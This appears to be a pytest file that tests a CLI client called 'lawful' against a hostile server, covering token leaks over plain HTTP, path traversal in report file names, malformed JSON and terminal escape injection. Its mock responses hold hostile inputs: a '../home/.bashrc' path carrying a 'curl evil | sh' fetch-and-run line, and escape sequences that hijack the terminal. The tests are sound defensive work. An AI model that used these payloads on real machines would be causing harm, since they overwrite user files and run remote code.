"""The `lawful` CLI against a hostile or misconfigured server: it never sends its token in clear to another machine,
never writes a file where the server says, and turns an answer that is not JSON into one clear error, not a
traceback."""

from __future__ import annotations

import sys

import httpx
import pytest


def _run(args, capsys, handler=None):
    from lawful import cli, client

    if handler is not None:
        client.HTTP_FACTORY = lambda server: httpx.Client(base_url=server, transport=httpx.MockTransport(handler))
    old = sys.argv
    sys.argv = ["lawful", *args]
    code = 0
    try:
        cli.main()
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else 1
    finally:
        sys.argv = old
        client.HTTP_FACTORY = None
    c = capsys.readouterr()
    return code, c.out, c.err


@pytest.fixture
def env(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    monkeypatch.setenv("LAWFUL_TOKEN", "s3cret-token")
    monkeypatch.delenv("LAWFUL_SERVER", raising=False)
    return tmp_path


def test_the_token_never_goes_over_plain_http_to_another_machine(env, capsys, monkeypatch):
    seen = []

    def handler(request):
        seen.append(request.headers.get("authorization"))
        return httpx.Response(200, json={"name": "ana", "roles": ["analyst"], "clearance": "internal"})

    monkeypatch.setenv("LAWFUL_SERVER", "http://192.0.2.2:8000")
    code, out, err = _run(["whoami"], capsys, handler)
    assert code == 2 and "plain http to another machine" in err and seen == []
    for server in ("http://127.0.0.1:8000", "http://localhost:8000", "https://lawful.example.org"):
        monkeypatch.setenv("LAWFUL_SERVER", server)
        code, out, err = _run(["whoami"], capsys, handler)
        assert code == 0, (server, err)
    assert seen == ["Bearer s3cret-token"] * 3


def test_backtest_report_files_are_written_only_under_their_own_names(env, capsys):
    victim = env / "home" / ".bashrc"
    victim.parent.mkdir()

    def handler(request):
        if request.url.path.endswith("/forecast/backtests"):
            return httpx.Response(200, json={"id": 1})
        return httpx.Response(200, json={"id": 1, "state": "done", "total": 0, "stage": "", "done": 0, "result": {
            "summaries": [], "files": {"../home/.bashrc": "curl evil | sh\n", str(env / "abs.txt"): "x"},
            "map_png_base64": None}})

    code, out, err = _run(["forecast", "backtest", "--json", "--out", str(env / "report")], capsys, handler)
    assert code == 2 and "report files named" in err
    assert not victim.exists() and not (env / "abs.txt").exists()


@pytest.mark.parametrize("answer", [
    httpx.Response(200, content=b"<html>a proxy's login page</html>", headers={"content-type": "application/json"}),
    httpx.Response(200, content=b"[" * 200_000, headers={"content-type": "application/json"}),
    httpx.Response(307, headers={"location": "https://elsewhere.example/api/v1/me"}),
])
def test_an_answer_that_is_not_json_is_one_clear_error(env, capsys, answer):
    code, out, err = _run(["whoami"], capsys, lambda request: answer)
    assert code in (1, 2, 3) and "Traceback" not in err and ("not JSON" in err or "redirect" in err), err


def test_terminal_control_sequences_from_the_server_never_reach_the_terminal(env, capsys):
    name = "alice\x1b]0;owned\x07\x1b[2Jmallory"

    def handler(request):
        if request.url.path.endswith("/me"):
            return httpx.Response(200, json={"name": name, "roles": ["analyst"], "clearance": "internal"})
        return httpx.Response(403, json={"detail": "denied\x1b[2J\x9b1m", "kind": "denied"})

    code, out, err = _run(["whoami"], capsys, handler)
    assert code == 0 and "\x1b" not in out and "\x07" not in out and "alice" in out and "mallory" in out
    code, out, err = _run(["review", "list"], capsys, handler)
    assert "\x1b" not in err and "\x9b" not in err and "denied" in err


def test_a_password_never_goes_over_plain_http_to_another_machine(env, capsys, monkeypatch):
    seen = []
    monkeypatch.setenv("LAWFUL_SERVER", "http://192.0.2.2:8000")
    monkeypatch.setattr("sys.stdin", __import__("io").StringIO("correct horse battery staple\n"))
    code, out, err = _run(["login", "ana", "--password-stdin"], capsys,
                          lambda request: seen.append(request.content) or httpx.Response(200, json={}))
    assert code == 2 and "in clear" in err and seen == []
